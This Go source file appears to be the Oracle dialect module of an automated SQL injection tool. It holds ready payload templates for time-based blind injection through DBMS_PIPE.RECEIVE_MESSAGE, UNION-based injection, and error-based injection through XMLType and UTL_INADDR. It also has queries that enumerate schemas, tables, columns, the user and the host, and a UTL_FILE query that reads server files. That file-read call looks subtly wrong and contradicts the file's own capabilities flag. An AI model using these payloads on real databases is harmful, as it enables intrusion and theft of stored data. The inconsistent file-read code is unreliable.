package dbms

import (
	"fmt"
	"regexp"
	"strings"
)

// Oracle implements DBMS for Oracle Database.
// Key Oracle SQL differences from MySQL/PostgreSQL:
//   - String concatenation uses ||
//   - SUBSTR (not SUBSTRING), CHR (not CHAR)
//   - Every SELECT needs a FROM clause; DUAL is the one-row pseudo-table
//   - ROWNUM instead of LIMIT/OFFSET, and a ROWNUM predicate never selects
//     more than the first rows, so it is treated as a single-row query
//   - No stacked queries through the usual drivers
type Oracle struct{}

var oracleDialect = register(&Dialect{
	Name:     "Oracle",
	Count:    "COUNT(%s)",
	Case:     "SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL",
	Cast:     "CAST(%s AS VARCHAR(4000))",
	NullCast: "NVL(CAST(%s AS VARCHAR(4000)),' ')",
	Limit: &LimitRule{
		Pattern: regexp.MustCompile(`(?i)ROWNUM\s*(?:<=|<|=)\s*(\d+)`),
		Capped:  true,
	},
	SingleRowTable: "DUAL",
	FromTable:      "DUAL",
	TimeVector:     "AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN DBMS_PIPE.RECEIVE_MESSAGE('[RANDSTR]',[SLEEPTIME]) ELSE [RANDNUM] END)",
	UnionVector:    "UNION ALL SELECT [QUERY] FROM DUAL",
	limitQuery: func(num int, query, fields, field string) string {
		inner := strings.Replace(query, fields, field+" AS SIPHON_V", 1)
		return fmt.Sprintf("SELECT SIPHON_V FROM (SELECT q.*,ROWNUM AS SIPHON_RN FROM (%s) q) WHERE SIPHON_RN=%d", inner, num+1)
	},
})

func (o *Oracle) Name() string { return "Oracle" }

func (o *Oracle) Concatenate(parts ...string) string {
	return strings.Join(parts, "||")
}

func (o *Oracle) Substring(expr string, start, length int) string {
	return fmt.Sprintf("SUBSTRC(%s,%d,%d)", expr, start, length)
}

func (o *Oracle) Length(expr string) string {
	return fmt.Sprintf("LENGTH(%s)", expr)
}

func (o *Oracle) ASCII(expr string) string {
	return fmt.Sprintf("ASCII(%s)", expr)
}

func (o *Oracle) Char(code int) string {
	return fmt.Sprintf("CHR(%d)", code)
}

func (o *Oracle) VersionQuery() string {
	return "SELECT banner FROM v$version WHERE ROWNUM=1"
}

func (o *Oracle) CurrentUserQuery() string {
	return "SELECT USER FROM DUAL"
}

func (o *Oracle) CurrentDBQuery() string {
	return "SELECT SYS.DATABASE_NAME FROM DUAL"
}

func (o *Oracle) HostnameQuery() string {
	return "SELECT UTL_INADDR.GET_HOST_NAME FROM DUAL"
}

// ListDatabasesQuery lists schema owners; Oracle has no separate databases.
func (o *Oracle) ListDatabasesQuery() string {
	return "SELECT DISTINCT(owner) FROM sys.all_tables"
}

func (o *Oracle) ListTablesQuery(schema string) string {
	if schema == "" {
		return "SELECT table_name FROM user_tables"
	}
	return fmt.Sprintf("SELECT table_name FROM sys.all_tables WHERE owner=%s", o.QuoteString(strings.ToUpper(schema)))
}

func (o *Oracle) ListColumnsQuery(schema, table string) string {
	if schema == "" {
		return fmt.Sprintf("SELECT column_name FROM user_tab_columns WHERE table_name=%s ORDER BY column_id",
			o.QuoteString(strings.ToUpper(table)))
	}
	return fmt.Sprintf("SELECT column_name FROM sys.all_tab_columns WHERE owner=%s AND table_name=%s ORDER BY column_id",
		o.QuoteString(strings.ToUpper(schema)), o.QuoteString(strings.ToUpper(table)))
}

func (o *Oracle) TableRef(schema, table string) string {
	if schema == "" {
		return table
	}
	return strings.ToUpper(schema) + "." + table
}

// ErrorPayloads returns the XMLType parsing error vector, which reflects the
// offending markup in ORA-31011.
func (o *Oracle) ErrorPayloads() []PayloadTemplate {
	return []PayloadTemplate{
		{
			Name:     "xmltype",
			Template: "AND [RANDNUM]=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||[QUERY]||CHR(62))) FROM DUAL)",
			DBMS:     "Oracle",
		},
		{
			Name:     "utl_inaddr",
			Template: "AND [RANDNUM]=UTL_INADDR.GET_HOST_ADDRESS([QUERY])",
			DBMS:     "Oracle",
		},
	}
}

// SleepFunction uses DBMS_PIPE.RECEIVE_MESSAGE, which waits for the timeout
// on a pipe nobody writes to.
func (o *Oracle) SleepFunction(seconds int) string {
	return fmt.Sprintf("DBMS_PIPE.RECEIVE_MESSAGE(CHR(95)||CHR(95)||CHR(95),%d)", seconds)
}

func (o *Oracle) IfThenElse(condition, trueExpr, falseExpr string) string {
	return fmt.Sprintf("(CASE WHEN %s THEN %s ELSE %s END)", condition, trueExpr, falseExpr)
}

func (o *Oracle) QuoteString(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

func (o *Oracle) CommentSequence() string {
	return "--"
}

func (o *Oracle) FileReadQuery(path string) string {
	// Requires UTL_FILE privilege
	return fmt.Sprintf(
		"SELECT UTL_RAW.CAST_TO_VARCHAR2(UTL_FILE.GET_RAW(UTL_FILE.FOPEN(%s,'r'),32767)) FROM DUAL",
		o.QuoteString(path),
	)
}

func (o *Oracle) Capabilities() Capabilities {
	return Capabilities{
		StackedQueries: false,
		ErrorBased:     true,
		UnionBased:     true,
		FileRead:       false,
		Subqueries:     true,
		CaseWhen:       true,
		LimitOffset:    false,
		RowLimit:       true,
	}
}
